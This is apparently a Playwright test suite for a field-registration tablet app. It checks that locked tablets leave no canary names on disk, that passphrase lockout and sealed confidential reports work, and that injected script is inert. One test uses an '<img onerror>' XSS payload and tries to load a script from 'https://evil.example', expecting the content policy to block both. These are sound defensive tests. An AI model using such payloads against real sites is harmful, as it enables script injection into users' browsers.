"""A tablet in the wrong hands: what its disk shows, who can open it, and what the custodian still gets out of it."""

from __future__ import annotations

import json
from pathlib import Path

from playwright.sync_api import expect

from tests.browser import answers
from tests.browser.seeing import faults_of
from tests.browser.tablet import PASSPHRASE

OTHERS = "bintou’s own words"

DIGGER = {
    "names": "Zibelda Quaremba",
    "nickname": "Tchouvakis",
    "sex": "woman",
    "birth_year": 1984,
    "birthplace": "Ouarzandé",
    "mother_names": "Hortensia Plumbago",
    "residence": "Kirundwezi",
    "document_kind": "voter_card",
    "document_number": "VC7391846205",
    "document_seen": True,
    "roles": ["washing"],
}
BUYER = {**answers.BUYER, "number": "B-QX7719", "names": "Evariste Mbolokwe"}
SITE = {**answers.SITE, "name": "Nyamuzinga bend", "place": "Tembwelele"}
PURCHASE = {
    **answers.PURCHASE,
    "slip_number": "BRL 8827364",
    "seller": {"find": "zibelda"},
    "licence": {"find": "0317"},
    "buyer": {"find": "evariste"},
    "site": {"find": "nyamuzinga"},
    "witness": "Philomena Ndagijimana",
}
# Of the register, of the officer, of a colleague, of what was recorded and sent, of what was left unfinished.
CANARIES = [
    "Élodie Koumba", "Abdou Kambé", "Paul Sowé", "D-004218", "L-0317", "Bemba bend",
    "Doumbia", "Sangaré",
    "Zibelda Quaremba", "Tchouvakis", "Ouarzandé", "Hortensia Plumbago", "Kirundwezi", "VC7391846205",
    "B-QX7719", "Evariste Mbolokwe", "Nyamuzinga", "Tembwelele", "BRL 8827364", "Philomena Ndagijimana",
    "Unfinished Person",
]  # fmt: skip


def found_in(folder: Path, words: list[str]) -> dict[str, list[str]]:
    """In which files each word stands, as UTF-8, as UTF-16 and as Latin-1."""
    files = {path.relative_to(folder): path.read_bytes() for path in folder.rglob("*") if path.is_file()}
    hits = {}
    for word in words:
        spelt = {word.encode(), word.encode("utf-16-le"), word.encode("latin-1", "replace")}
        hits[word] = [str(path) for path, data in files.items() if any(form in data for form in spelt)]
    return {word: where for word, where in hits.items() if where}


LEFT_IN_THE_CLEAR = """async (words) => {
    const db = await new Promise((done) => {
        const asked = indexedDB.open("in-the-clear", 1);
        asked.onupgradeneeded = () => asked.result.createObjectStore("words");
        asked.onsuccess = () => done(asked.result);
    });
    const at = db.transaction("words", "readwrite", { durability: "strict" });
    for (const [n, word] of words.entries()) at.objectStore("words").put({ word, n }, n);
    await new Promise((done) => (at.oncomplete = done));
    const file = await (await navigator.storage.getDirectory()).getFileHandle("in-the-clear", { create: true });
    const out = await file.createWritable();
    await out.write(words.map((word) => `${word} in a file`).join());
    await out.close();
}"""


def test_what_an_app_leaves_in_the_clear_is_found(profile, server):
    """The search itself: of each word that is looked for below, in the database and in a file."""
    page = profile().page
    page.goto(f"{server.address}/field/")
    page.evaluate(LEFT_IN_THE_CLEAR, CANARIES)
    page.context.close()

    found = found_in(profile.folder, CANARIES)
    assert {word: (a, b) for word in CANARIES for a, b in [in_both(found.get(word, []))] if not (a and b)} == {}


def in_both(files: list[str]) -> tuple[bool, bool]:
    return any("IndexedDB" in name for name in files), any("File System" in name for name in files)


def held_by(page) -> str:
    """All strings that the page holds in memory, after what nobody refers to is thrown away."""
    devtools, chunks = page.context.new_cdp_session(page), []
    devtools.on("HeapProfiler.addHeapSnapshotChunk", lambda told: chunks.append(told["chunk"]))
    devtools.send("HeapProfiler.enable")
    devtools.send("HeapProfiler.collectGarbage")
    devtools.send("HeapProfiler.takeHeapSnapshot", {"reportProgress": False})
    return "\n".join(json.loads("".join(chunks))["strings"])


def use(tablet, server) -> list[str]:
    """A day's work: sent records, unsent ones, an unfinished form, a colleague; then the tablet is shut."""
    server.desk("colleague")
    tablet.enrol(server.desk("offer", "14")["code"])
    numbers = [tablet.record(form, given) for form, given in {"site": SITE, "digger": DIGGER, "buyer": BUYER}.items()]
    tablet.send()
    numbers.append(tablet.record("purchase", PURCHASE))
    tablet.begin("digger")
    tablet.answer("names", "Unfinished Person")
    tablet.page.wait_for_timeout(300)
    tablet.lock()
    tablet.join(server.desk("offer", "14", "bintou")["code"], OTHERS)
    tablet.lock()
    return numbers


def test_the_profile_of_a_locked_tablet_shows_none_of_twenty_words_and_opens_by_its_own_passphrase(profile, server):
    tablet = profile()
    numbers = use(tablet, server)
    expect(tablet.page.locator("body")).not_to_contain_text("Doumbia")
    assert faults_of(tablet.page) == []
    tablet.page.context.close()

    assert len(CANARIES) > 20
    assert found_in(profile.folder, [*CANARIES, *numbers]) == {}
    assert found_in(profile.folder, ["kpfield"]), "the folder is not the one that was used"

    again = profile()
    again.page.goto(f"{server.address}/field/")
    again.choose_officer(1)
    again.unlock_in_vain(OTHERS)
    again.unlock(PASSPHRASE)
    assert again.state_of(numbers[0]) != ""
    again.lock()
    again.choose_officer(2)
    again.unlock_in_vain(PASSPHRASE)
    again.unlock(OTHERS)
    assert again.counts() == (0, 0, 0)
    again.go("#/records")
    expect(again.page.locator("body")).not_to_contain_text("Zibelda")


def test_after_ten_wrong_tries_only_the_office_lets_the_officer_try_again(server, hand_out):
    tablet = hand_out()
    tablet.page.clock.install()
    tablet.enrol(server.desk("offer", "14")["code"])
    number = tablet.record("buyer", answers.BUYER)
    tablet.lock()
    for _ in range(10):
        tablet.page.fill("#passphrase", "not these words")
        tablet.page.click("button.primary")
        tablet.page.wait_for_timeout(1500)
        tablet.page.clock.fast_forward("01:00:00")

    expect(tablet.page.locator("h1")).to_have_text("The tablet is shut")
    assert faults_of(tablet.page) == []
    tablet.page.fill("#code", server.desk("offer", "14")["code"])
    tablet.page.click("button.primary")
    tablet.unlock()

    assert tablet.state_of(number) != ""
    tablet.assert_quiet()


def test_a_report_in_confidence_is_read_by_its_reader_and_nowhere_on_the_tablet(profile, server, tmp_path):
    server.manage("make_recovery_key", "--reader", "the ombudsman", "--out", str(tmp_path / "reader.pem"))
    tablet = profile()
    tablet.enrol(server.desk("offer", "14")["code"])
    server.stop()
    assert faults_of(tablet.page) == []
    tablet.page.click("a[href='#/report']")
    expect(tablet.page.locator("body")).to_contain_text("the ombudsman")
    assert faults_of(tablet.page) == []
    tablet.page.check("input[value=state_forces]", force=True)
    tablet.page.fill("#where", "Kwilumbazi")
    tablet.page.fill("#words", "Six men at Tambourazo")
    tablet.page.click("form button.primary")
    expect(tablet.page.locator("[data-sealed]")).to_be_visible()

    assert tablet.counts() == (0, 0, 0)
    for page in ["#/records", "#/report", "#/"]:
        tablet.go(page)
        expect(tablet.page.locator("body")).not_to_contain_text("Kwilumbazi")
    # Unlocked, and not yet sent: neither on the disk nor in what the page holds.
    assert found_in(profile.folder, ["Kwilumbazi", "Tambourazo"]) == {}
    held = held_by(tablet.page)
    assert "Doumbia" in held, "this is not the page's memory"
    assert [word for word in ("Kwilumbazi", "Tambourazo") if word in held] == []
    server.start()
    tablet.send()
    tablet.page.context.close()

    assert found_in(profile.folder, ["Kwilumbazi", "Tambourazo"]) == {}
    assert "Six men at Tambourazo" in server.manage("open_reports", "--key", str(tmp_path / "reader.pem"))


SCRIPT = "<img src=x onerror=window.ran=1>"


def test_a_script_in_a_record_is_read_as_words_and_the_page_runs_nothing_that_came_later(server, hand_out):
    tablet = hand_out()
    tablet.enrol(server.desk("offer", "14")["code"])
    number = tablet.record("site", {**SITE, "name": SCRIPT, "place": SCRIPT})
    tablet.send()
    server.desk("decide", number, "returned", SCRIPT)
    tablet.send()
    tablet.open_record(number)
    expect(tablet.page.locator("body")).to_contain_text(SCRIPT)
    tablet.go("#/find")
    tablet.page.fill("input[type=search]", "img")
    expect(tablet.page.locator("body")).to_contain_text(SCRIPT)
    tablet.assert_quiet()

    # From a timer: what the test itself calls is let through.
    assert tablet.page.evaluate("""() => new Promise((told) => setTimeout(() => {
        const refused = [];
        const attempt = (what, act) => { try { act(); } catch (fault) { refused.push(what); } };
        attempt("markup", () => { document.body.innerHTML = "<b>x</b>"; });
        attempt("eval", () => { (0, eval)("window.ran = 1"); });
        attempt("function", () => { new Function("window.ran = 1")(); });
        attempt("address", () => {
            const script = document.createElement("script");
            script.src = "https://evil.example/x.js";
            document.head.append(script);
        });
        const handler = document.createElement("button");
        attempt("handler", () => handler.setAttribute("onclick", "window.ran = 1"));
        handler.click();
        told(refused);
    }))""") == ["markup", "eval", "function", "address", "handler"]
    assert tablet.page.evaluate("() => window.ran") is None
    assert tablet.faults, "the policy said nothing"


def test_what_the_service_worker_keeps_is_of_nobody(server, hand_out):
    tablet = hand_out()
    tablet.enrol(server.desk("offer", "14")["code"])
    number = tablet.record("buyer", BUYER)
    tablet.send()

    kept = tablet.page.evaluate("""async () => {
        const found = [];
        for (const name of await caches.keys())
            for (const request of await (await caches.open(name)).keys()) {
                const answer = await (await caches.open(name)).match(request);
                found.push([new URL(request.url).pathname, await answer.text()]);
            }
        return found;
    }""")

    assert kept
    assert [path for path, _ in kept if path.startswith(("/api/", "/desk/"))] == []
    words = ["Doumbia", "Koumba", "Mbolokwe", number]
    assert [path for path, text in kept if any(word in text for word in words)] == []
    assert tablet.page.evaluate("() => [localStorage.length, sessionStorage.length, document.cookie]") == [0, 0, ""]
